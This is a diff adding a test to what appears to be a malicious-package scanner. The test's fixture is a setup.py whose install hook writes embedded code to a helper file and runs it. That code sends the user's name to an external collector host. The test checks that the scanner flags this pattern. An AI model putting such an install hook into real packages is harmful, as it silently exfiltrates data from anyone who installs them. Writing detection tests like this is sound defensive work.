@@ -793,3 +793,29 @@ def test_a_command_handed_to_a_local_runner_at_install_is_malicious() -> None:
         setup(name="demo")
     """
     assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_code_kept_in_a_constant_written_by_an_install_hook_and_run_is_malicious() -> None:
+    src = '''
+        import os, subprocess
+        from setuptools import setup
+        from setuptools.command.install import install
+
+        CODE = """
+        import socket, getpass, urllib.request
+        urllib.request.urlopen("https://c.collector-host.net/?u=" + getpass.getuser())
+        """
+
+        class Hook(install):
+            def run(self):
+                install.run(self)
+                file = open("helper.py", "w")
+                file.write(CODE)
+                file.close()
+                subprocess.Popen(["python3", "helper.py"])
+
+        setup(name="demo", cmdclass={"install": Hook})
+    '''
+    result = scan({"setup.py": src})
+    assert "intent.write-execute" in rules(result, "high")
+    assert result.verdict == "malicious"
